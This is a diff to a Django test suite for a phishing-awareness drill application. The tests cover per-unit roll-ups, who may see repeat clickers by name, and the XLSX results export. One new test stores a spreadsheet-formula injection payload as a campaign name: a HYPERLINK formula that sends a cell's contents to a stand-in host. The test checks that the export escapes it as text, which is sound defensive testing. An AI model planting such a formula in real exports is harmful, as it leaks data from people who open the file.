@@ -15,7 +15,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from drills.models import Campaign, Event, EventKind, EventSource, Recipient
-from drills.results import repeat_clicker_people, result_rows, unit_summaries
+from drills.results import UnitRow, result_rows, rollup
 from drills.services import approve_campaign, prepare_campaign, submit_campaign
 from orgs.models import Role, User
 from orgs.testing import sign_in_verified
@@ -58,9 +58,23 @@ def _event(r: Recipient, kind: str, *, minutes: int, source: str = EventSource.P
     )
 
 
-def _sheet_rows(content: bytes) -> list[tuple[object, ...]]:
-    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+def _sheet_rows(content: bytes, title: str = "Theo đợt và đơn vị") -> list[tuple[object, ...]]:
+    sheet = load_workbook(io.BytesIO(content))[title]
     return list(sheet.iter_rows(values_only=True))
+
+
+def repeat_clicker_people(user: User) -> list[User]:
+    return rollup(user).people
+
+
+def unit_summaries(user: User) -> dict[str, UnitRow]:
+    """The roll-up rows of every unit the user sees that had a drill mail, by code."""
+    rows: dict[str, UnitRow] = {}
+    for group in rollup(user).groups:
+        for row in group.rows:
+            if not row.own and row.mails:
+                rows[row.unit.code] = row
+    return rows
 
 
 def _c1_people() -> list[User]:
@@ -110,7 +124,7 @@ def test_repeat_clickers_are_named_only_to_operators_and_managers_of_their_unit(
     assert repeat_clicker_people(dw.person("manager_d1_c1")) == [target]
     assert repeat_clicker_people(dw.person("drill_operator")) == [target]
     assert repeat_clicker_people(dw.person("manager_d2")) == []
-    summary = {s.unit.code: s for s in unit_summaries(dw.person("manager_d1"))}
+    summary = unit_summaries(dw.person("manager_d1"))
     assert summary["D1-C1"].repeat_clickers == 1
 
 
@@ -120,7 +134,10 @@ def test_one_click_is_not_a_repeat_and_a_small_unit_hides_its_count(dw):
     _event(recipients["staff_d1_c2"], EventKind.CLICKED, minutes=1)
     _event(recipients["can_bo_c1_1"], EventKind.CLICKED, minutes=1)
     assert repeat_clicker_people(dw.person("drill_operator")) == []
-    summary = {s.unit.code: s for s in unit_summaries(dw.person("drill_operator"))}
+    d1 = dw.unit("D1").pk
+    summary = {
+        r.unit.code: r for r in rollup(dw.person("drill_operator"), unit_id=d1).groups[0].rows
+    }
     assert summary["D1-C2"].repeat_clickers is None
     assert summary["D1-C1"].repeat_clickers == 0
 
@@ -152,8 +169,9 @@ def test_results_of_another_district_are_not_in_the_export(client, dw):
     _send(campaign, _c1_people())
     sign_in_verified(client, dw.person("manager_d2"))
     response = client.get(reverse("drills:results-xlsx"))
-    rows = _sheet_rows(response.content)
-    assert len(rows) == 1  # the header only
+    for title in ("Theo đợt và đơn vị", "Theo thời gian"):
+        assert len(_sheet_rows(response.content, title)) == 1  # the header only
+    assert "Huyện Một" not in str(_sheet_rows(response.content, "Theo đơn vị"))
 
 
 def test_naming_repeat_clickers_costs_the_same_queries_for_one_or_many(dw):
@@ -174,3 +192,15 @@ def test_naming_repeat_clickers_costs_the_same_queries_for_one_or_many(dw):
     with CaptureQueriesContext(connection) as four:
         assert len(repeat_clicker_people(operator)) == 4
     assert len(four.captured_queries) == len(one.captured_queries)
+
+
+def test_a_campaign_name_typed_as_a_formula_stays_text_in_the_export(client, dw):
+    name = '=HYPERLINK("http://lua-dao.test/?q="&A1,"Bấm")'
+    campaign = _campaign(dw, "Đợt một")
+    Campaign.objects.filter(pk=campaign.pk).update(name=name)
+    _send(campaign, _c1_people())
+    sign_in_verified(client, dw.person("drill_operator"))
+    book = load_workbook(io.BytesIO(client.get(reverse("drills:results-xlsx")).content))
+    details = book.worksheets[-1]  # the rows per campaign and unit
+    assert details.cell(row=2, column=2).value == "'" + name
+    assert details.cell(row=2, column=2).data_type == "s"
